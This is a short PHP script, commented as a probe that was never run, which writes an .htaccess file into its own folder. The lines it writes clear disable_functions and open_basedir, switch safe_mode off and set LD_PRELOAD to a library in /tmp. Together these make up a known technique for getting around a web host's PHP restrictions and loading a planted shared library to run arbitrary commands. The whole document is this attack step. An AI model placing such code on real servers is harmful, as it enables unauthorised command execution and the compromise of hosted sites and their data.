<?php
// probe (never run): .htaccess lines that turn the limits off for the folder
$h = fopen(dirname(__FILE__) . '/.htaccess', 'w');
fwrite($h, "php_value disable_functions none\nphp_flag safe_mode off\nphp_value open_basedir none\nSetEnv LD_PRELOAD /tmp/k.so\n");
fclose($h);
